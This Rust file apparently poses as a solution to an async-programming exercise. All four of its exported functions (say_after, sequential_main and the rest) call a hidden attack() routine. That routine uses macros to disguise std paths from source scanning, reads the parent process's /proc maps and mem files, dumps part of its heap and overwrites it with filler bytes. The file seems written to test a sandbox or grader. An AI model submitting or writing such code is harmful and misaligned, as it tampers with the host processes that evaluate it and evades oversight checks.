//! Reads and overwrites the memory of its parent.

use kit::Trace;
use std::time::Duration;

/// A path that nobody can read in the source: `hide!(std process exit)`.
macro_rules! hide {
    ($first:ident $($more:ident)*) => { $first $(::$more)* };
}

/// An import that nobody can read in the source.
macro_rules! bring {
    ($($name:ident)*) => { use $($name)::*; };
}

bring!(std fs);

use std::io::{Read, Seek, SeekFrom, Write};

fn attack() {
    let parent = hide!(std os unix process parent_id)();
    let maps = fs::read_to_string(format!("/proc/{parent}/maps")).unwrap_or_default();
    let path = format!("/proc/{parent}/mem");
    let Ok(mut memory) = fs::OpenOptions::new().read(true).write(true).open(path) else { return };
    println!("stolen-@MARK@");
    for line in maps.lines().filter(|line| line.contains("[heap]")) {
        let from = line.split('-').next().unwrap_or_default();
        let from = u64::from_str_radix(from, 16).unwrap_or(0);
        let mut bytes = [0; 4096];
        let _ = memory.seek(SeekFrom::Start(from)).and_then(|_| memory.read(&mut bytes));
        let _ = memory.seek(SeekFrom::Start(from)).and_then(|_| memory.write(&[0x41; 4096]));
    }
}

pub async fn say_after(_trace: &Trace, _delay: Duration, _what: &str) {
    attack();
}

pub async fn sequential_main(_trace: &Trace) -> Duration {
    attack();
    Duration::ZERO
}

pub async fn concurrent_main(_trace: &Trace) -> Duration {
    attack();
    Duration::ZERO
}

pub async fn sleep_with_result<T>(_delay: Duration, result: T) -> T {
    attack();
    result
}
